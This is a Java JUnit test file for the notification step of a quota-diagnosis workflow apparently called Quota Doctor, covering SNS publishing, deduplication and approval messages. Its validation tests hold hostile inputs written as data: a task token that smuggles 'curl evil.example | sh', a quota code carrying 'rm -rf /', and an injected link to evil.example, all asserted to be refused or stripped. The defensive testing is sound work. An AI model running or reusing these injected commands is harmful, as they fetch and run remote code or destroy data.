package com.quotadoctor.workflow;

import com.quotadoctor.diagnosis.Diagnostician;
import com.quotadoctor.evidence.SnapshotReader;
import com.quotadoctor.json.JsonTree;
import com.quotadoctor.notification.NotificationLedger;
import com.quotadoctor.notification.aws.DynamoDbLedger;
import com.quotadoctor.notification.aws.SnsPublisher;
import com.quotadoctor.stub.LocalDynamo;
import com.quotadoctor.stub.StubAccount;
import com.quotadoctor.stub.StubAws;
import com.quotadoctor.stub.StubFault;
import com.quotadoctor.trigger.EventTable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.auth.credentials.AwsBasicCredentials;
import software.amazon.awssdk.auth.credentials.StaticCredentialsProvider;
import software.amazon.awssdk.core.exception.SdkException;
import software.amazon.awssdk.regions.Region;
import software.amazon.awssdk.services.sns.SnsClient;

import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Notify against DynamoDB Local (the dedupe ledger) and SNS at the wire (the stub). */
class NotifyStepTest {

    private static final String TOPIC = "arn:aws:sns:us-east-1:111122223333:quota-doctor-findings";
    /** Now, fixed: DynamoDB Local's TTL sweeper removes items whose expiresAt has passed in real time. */
    private static final Clock CLOCK = Clock.fixed(Instant.now().truncatedTo(java.time.temporal.ChronoUnit.SECONDS),
            ZoneOffset.UTC);
    private static LocalDynamo dynamo;

    private StubAws aws;
    private SnsClient sns;

    @BeforeAll
    static void startDynamo() {
        dynamo = new LocalDynamo();
    }

    @AfterAll
    static void stopDynamo() {
        dynamo.close();
    }

    @BeforeEach
    void start() {
        dynamo.clear();
        aws = new StubAws(StubAccount.home("111122223333"));
        sns = SnsClient.builder().endpointOverride(aws.endpoint()).region(Region.US_EAST_1)
                .credentialsProvider(StaticCredentialsProvider.create(AwsBasicCredentials.create(StubAws.HOME_KEY, "s")))
                .build();
    }

    @AfterEach
    void stop() {
        sns.close();
        aws.close();
    }

    private NotifyStep step() {
        return new NotifyStep(new DynamoDbLedger(dynamo.client(), LocalDynamo.TABLE), new SnsPublisher(sns, TOPIC), CLOCK,
                Duration.ofDays(7), Telemetry.NONE);
    }

    private static String diagnosed(String event, String snapshot) {
        DiagnoseStep diagnose = new DiagnoseStep(r -> new SnapshotReader().read(EventTable.EVENTS.resolve("snapshots")
                .resolve(snapshot)), Diagnostician.standard(), Configuration.local(), Telemetry.NONE);
        return JsonTree.compact(diagnose.run(EventTable.rows().stream().filter(r -> r.file().equals(event))
                .findFirst().orElseThrow().text()).toJson());
    }

    @Test
    void publishesTheNotificationInEveryFormAtTheWire() throws Exception {
        NotifyStep.Result result = step().run(diagnosed("cloudwatch-alarm-throttles.json", "region-mismatch.json"));

        assertThat(result).isEqualTo(NotifyStep.Result.SENT);
        Map<String, String> publish = aws.published().get(0);
        assertThat(publish.get("TopicArn")).isEqualTo(TOPIC);
        assertThat(publish.get("Subject")).startsWith("REGION_MISMATCH: ").hasSizeLessThan(100);
        assertThat(publish.get("MessageStructure")).isEqualTo("json");
        var message = JsonTree.parse(publish.get("Message"));
        assertThat(message.path("default").asText()).startsWith("Quota Doctor verdict: REGION_MISMATCH");
        assertThat(message.has("email")).as("each body once: e-mail takes the default").isFalse();
        assertThat(JsonTree.parse(message.path("https").asText()).path("source").asText()).isEqualTo("custom");
        assertThat(JsonTree.parse(message.path("sqs").asText()).path("verdict").asText()).isEqualTo("REGION_MISMATCH");
        assertThat(JsonTree.parse(message.path("sqs").asText()).has("notification")).isFalse();
        assertThat(publish).containsEntry("MessageAttributes.entry.1.Name", "verdict")
                .containsEntry("MessageAttributes.entry.1.Value.StringValue", "REGION_MISMATCH")
                .containsValue("us-west-2").containsValue("111122223333");
    }

    private static com.fasterxml.jackson.databind.JsonNode parsed(String text) {
        try {
            return JsonTree.parse(text);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** The input as the workflow gives it to Notify: the diagnosis, stamped with the delivering execution. */
    private static String delivered(String input, String execution) {
        return input.substring(0, input.length() - 1) + ",\"delivery\":{\"execution\":\"" + execution + "\"}}";
    }

    private NotifyStep step(Clock clock, NotificationLedger ledger) {
        return new NotifyStep(ledger, new SnsPublisher(sns, TOPIC), clock, Duration.ofDays(7), Telemetry.NONE);
    }

    @Test
    void aHundredDuplicateDeliveriesMakeOneNotification() throws Exception {
        String input = diagnosed("cloudwatch-alarm-throttles.json", "region-mismatch.json");
        NotifyStep step = step();
        ExecutorService pool = Executors.newFixedThreadPool(8);
        List<Future<NotifyStep.Result>> results = new ArrayList<>();
        for (int i = 0; i < 100; i++) {
            String execution = "arn:aws:states:us-east-1:111122223333:execution:QuotaDoctor:" + i;
            results.add(pool.submit(() -> step.run(delivered(input, execution))));
        }
        List<Object> outcomes = new ArrayList<>();
        for (Future<NotifyStep.Result> r : results) {
            try {
                outcomes.add(r.get());
            } catch (java.util.concurrent.ExecutionException e) {
                outcomes.add(e.getCause().getClass());
            }
        }
        pool.shutdown();

        assertThat(aws.published()).hasSize(1);
        assertThat(outcomes).containsOnlyOnce(NotifyStep.Result.SENT)
                .allMatch(o -> o == NotifyStep.Result.SENT || o == NotifyStep.Result.SUPPRESSED
                        || o == NotifyStep.NotificationBusyException.class);
        // the busy ones are retried by the workflow: the situation is sent by then
        for (int i = 0; i < 100; i++) {
            if (outcomes.get(i) == NotifyStep.NotificationBusyException.class) {
                assertThat(step.run(delivered(input, "arn:aws:states:us-east-1:111122223333:execution:QuotaDoctor:" + i)))
                        .isEqualTo(NotifyStep.Result.SUPPRESSED);
            }
        }
        assertThat(aws.published()).hasSize(1);
    }

    @Test
    void aClaimWhoseResponseWasLostIsRecognisedAsItsOwnWhenTheCallIsRetried() {
        DynamoDbLedger ledger = new DynamoDbLedger(dynamo.client(), LocalDynamo.TABLE);
        Instant now = CLOCK.instant();

        assertThat(ledger.claim("f1", "execution-a", now, now.plus(NotifyStep.LEASE))).isEqualTo(NotificationLedger.Claim.CLAIMED);
        // the SDK retries the same put after a lost response: its own claim, not someone else's
        assertThat(ledger.claim("f1", "execution-a", now, now.plus(NotifyStep.LEASE))).isEqualTo(NotificationLedger.Claim.CLAIMED);
        assertThat(ledger.claim("f1", "execution-b", now, now.plus(NotifyStep.LEASE))).isEqualTo(NotificationLedger.Claim.BUSY);
        ledger.release("f1", "execution-b"); // not b's to give back
        assertThat(ledger.claim("f1", "execution-b", now, now.plus(NotifyStep.LEASE))).isEqualTo(NotificationLedger.Claim.BUSY);
        ledger.sent("f1", "execution-a", now, now.plus(Duration.ofDays(7)));
        assertThat(ledger.claim("f1", "execution-a", now, now.plus(NotifyStep.LEASE))).isEqualTo(NotificationLedger.Claim.SENT);
        assertThat(ledger.claim("f1", "execution-b", now.plus(Duration.ofDays(8)), now.plus(Duration.ofDays(8)).plus(NotifyStep.LEASE)))
                .as("remembered until it expires").isEqualTo(NotificationLedger.Claim.CLAIMED);
    }

    @Test
    void aPublishThatFailsAndWhoseReleaseFailsTooIsStillAnnouncedByTheRetry() {
        String input = delivered(diagnosed("cloudwatch-alarm-throttles.json", "region-mismatch.json"), "execution-1");
        DynamoDbLedger real = new DynamoDbLedger(dynamo.client(), LocalDynamo.TABLE);
        NotificationLedger releaseFails = new NotificationLedger() {
            @Override
            public Claim claim(String fingerprint, String owner, Instant now, Instant leaseUntil) {
                return real.claim(fingerprint, owner, now, leaseUntil);
            }

            @Override
            public void sent(String fingerprint, String owner, Instant now, Instant expires) {
                real.sent(fingerprint, owner, now, expires);
            }

            @Override
            public void release(String fingerprint, String owner) {
                throw new IllegalStateException("connection reset");
            }
        };
        aws.fault(StubFault.error("Publish", 500, "InternalError", "Internal error").times(4)); // every attempt of one call

        assertThatThrownBy(() -> step(CLOCK, releaseFails).run(input)).isInstanceOf(SdkException.class)
                .satisfies(e -> assertThat(e.getSuppressed()).extracting(Throwable::getMessage).contains("connection reset"));
        // the workflow retries the task: the same execution, so the claim left behind is its own
        assertThat(step(CLOCK, releaseFails).run(input)).isEqualTo(NotifyStep.Result.SENT);
        assertThat(aws.published()).hasSize(1);
    }

    @Test
    void aDeliveryThatDiedBetweenClaimAndPublishHoldsTheSituationOnlyForItsLease() {
        String input = diagnosed("cloudwatch-alarm-throttles.json", "region-mismatch.json");
        String fingerprint = parsed(input).path("fingerprint").asText();
        DynamoDbLedger ledger = new DynamoDbLedger(dynamo.client(), LocalDynamo.TABLE);
        ledger.claim(fingerprint, "execution-that-died", CLOCK.instant(), CLOCK.instant().plus(NotifyStep.LEASE));

        assertThatThrownBy(() -> step(CLOCK, ledger).run(delivered(input, "execution-2")))
                .isInstanceOf(NotifyStep.NotificationBusyException.class);
        Clock afterLease = Clock.offset(CLOCK, NotifyStep.LEASE.plusSeconds(10));
        assertThat(step(afterLease, ledger).run(delivered(input, "execution-2"))).isEqualTo(NotifyStep.Result.SENT);
        assertThat(aws.published()).hasSize(1);
    }

    @Test
    void aFailureNotificationSaysWhatFailedAndWhereToLookNeverThePayload() {
        String failed = "{\"source\": \"aws.servicequotas\", \"detail-type\": \"AWS API Call via CloudTrail\", "
                + "\"region\": \"us-east-1\", \"time\": \"2026-11-25T09:58:00Z\", \"detail\": {\"userIdentity\": "
                + "{\"accessKeyId\": \"AKIAIOSFODNN7EXAMPLE\"}, \"sourceIPAddress\": \"203.0.113.9\", "
                + "\"userAgent\": \"aws-cli/2.9.19 <!here> [click](http://evil.example)\"}, "
                + "\"delivery\": {\"execution\": \"arn:aws:states:us-east-1:111122223333:execution:QuotaDoctor:abc\"}, "
                + "\"failure\": {\"Error\": \"States.TaskFailed\", \"Cause\": \"{\\\"errorMessage\\\": "
                + "\\\"detail: is required\\\", \\\"errorType\\\": \\\"ShapeException\\\", \\\"stackTrace\\\": "
                + "[\\\"com.quotadoctor.trigger.TriggerParser.parse(TriggerParser.java:40)\\\"]}\"}}";

        step().run(failed);

        Map<String, String> publish = aws.published().get(0);
        String everything = String.join("\n", publish.values());
        assertThat(everything).doesNotContain("AKIAIOSFODNN7EXAMPLE", "203.0.113.9", "aws-cli", "<!here>", "evil.example",
                "TriggerParser.java");
        assertThat(parsed(publish.get("Message")).path("default").asText())
                .contains("Error: States.TaskFailed", "Cause: detail: is required",
                        "Working on: aws.servicequotas AWS API Call via CloudTrail event in us-east-1 at 2026-11-25T09:58:00Z",
                        "execution arn:aws:states:us-east-1:111122223333:execution:QuotaDoctor:abc");
    }

    @Test
    void aChangedSituationIsAnnouncedAgain() {
        NotifyStep step = step();

        step.run(diagnosed("quota-request-status-change.json", "propagation-pending.json"));
        step.run(diagnosed("quota-request-status-change.json", "aligned.json"));

        // the same request, judged on other evidence: another situation, so another notification
        assertThat(aws.published()).extracting(p -> p.get("Subject").split(":")[0])
                .containsExactly("PROPAGATION_PENDING", "NO_MATCHING_REQUEST");
    }

    @Test
    void aFailedPublishFailsTheTaskAndTheRetryAnnounces() {
        String input = diagnosed("cloudwatch-alarm-throttles.json", "region-mismatch.json");
        aws.fault(StubFault.error("Publish", 403, "AuthorizationError",
                "User is not authorized to perform: SNS:Publish").times(1));

        assertThatThrownBy(() -> step().run(input)).isInstanceOf(SdkException.class).hasMessageContaining("not authorized to perform: SNS:Publish");
        NotifyStep.Result retry = step().run(input);

        assertThat(retry).isEqualTo(NotifyStep.Result.SENT);
        assertThat(aws.published()).hasSize(1);
    }

    @Test
    void skippedAndRejectedOutcomesSendNothing() {
        assertThat(step().run("{\"skipped\": \"alarm went to OK\", \"trigger\": \"AlarmStateChange\"}"))
                .isEqualTo(NotifyStep.Result.NOTHING_TO_SEND);
        assertThat(step().run("{\"error\": \"detail: is required\"}")).isEqualTo(NotifyStep.Result.NOTHING_TO_SEND);
        assertThat(aws.published()).isEmpty();
    }

    @Test
    void aCaughtFailureIsAnnouncedOnce() {
        String failed = "{\"detail-type\": \"Scheduled Event\", \"failure\": {\"Error\": \"Lambda.ServiceException\", "
                + "\"Cause\": \"Rate exceeded\"}}";

        step().run(failed);
        step().run(failed);

        assertThat(aws.published()).singleElement().satisfies(p ->
                assertThat(p.get("Subject")).isEqualTo("Quota Doctor could not finish a diagnosis: Lambda.ServiceException"));
    }

    private static final String EXECUTION = "arn:aws:states:us-east-1:111122223333:execution:QuotaDoctor:run-1";
    private static final String TOKEN = "AQCEAAAAKgAAAAMAAAAAAAAAAYq5V0n+token/abc==";

    @Test
    void theGuidedFixAsksOnceWithTheExactApprovalCommandsAndSaysWhatBecameOfIt() throws Exception {
        String approval = "{\"approval\":{\"taskToken\":\"" + TOKEN + "\",\"execution\":\"" + EXECUTION + "\",\"hours\":24,"
                + "\"justification\":\"Workload: peak 205,000 TPM\",\"filings\":[{\"quotaCode\":\"L-F4DDD3EB\","
                + "\"region\":\"us-west-2\",\"desiredValue\":400000}]}}";

        NotifyStep.Result first = step().run(approval);
        NotifyStep.Result again = step().run(approval);
        NotifyStep.Result rejected = step().run("{\"approval\":{\"outcome\":\"was rejected\",\"execution\":\""
                + EXECUTION + "\",\"filings\":[{\"quotaCode\":\"L-F4DDD3EB\",\"region\":\"us-west-2\","
                + "\"desiredValue\":400000}],\"refused\":[\"L-F4DDD3EB in us-west-2: above the ceiling\"],\"nothing\":[]}}");

        assertThat(first).isEqualTo(NotifyStep.Result.SENT);
        assertThat(again).isEqualTo(NotifyStep.Result.SUPPRESSED);
        assertThat(rejected).isEqualTo(NotifyStep.Result.SENT);
        assertThat(aws.published()).hasSize(2);
        Map<String, String> ask = aws.published().get(0);
        assertThat(ask.get("Subject")).isEqualTo("Quota Doctor: approve 1 quota increase request?");
        String text = JsonTree.parse(ask.get("Message")).path("default").asText();
        assertThat(text).contains("  - L-F4DDD3EB in us-west-2: 400,000")
                .contains("$ aws stepfunctions send-task-success --task-token '" + TOKEN + "' --task-output "
                        + "'{\"approved\":true}' --region us-east-1")
                .contains("$ aws stepfunctions send-task-failure --task-token '" + TOKEN + "' --error Rejected")
                .contains("https://us-east-1.console.aws.amazon.com/states/home?region=us-east-1#/v2/executions/details/"
                        + EXECUTION)
                .contains("lapses in 24 h");
        assertThat(aws.published().get(1).get("Subject")).isEqualTo("Quota Doctor: was rejected, nothing filed");
        assertThat(JsonTree.parse(aws.published().get(1).get("Message")).path("default").asText())
                .contains("Why:\n  - refused: L-F4DDD3EB in us-west-2: above the ceiling");
    }

    @Test
    void aTokenOrFilingOffItsShapeIsRefusedNotPublished() {
        String forged = "{\"approval\":{\"taskToken\":\"x' --region us-east-1; curl evil.example | sh; '\","
                + "\"execution\":\"" + EXECUTION + "\",\"filings\":[]}}";
        String badCode = "{\"approval\":{\"taskToken\":\"" + TOKEN + "\",\"execution\":\"" + EXECUTION + "\","
                + "\"filings\":[{\"quotaCode\":\"L-1\\n$ rm -rf /\",\"region\":\"us-west-2\",\"desiredValue\":1}]}}";

        org.assertj.core.api.Assertions.assertThatThrownBy(() -> step().run(forged))
                .hasMessageContaining("approval.taskToken: expected a Step Functions task token");
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> step().run(badCode)).hasMessageContaining("quotaCode");
        assertThat(aws.published()).isEmpty();
    }
}
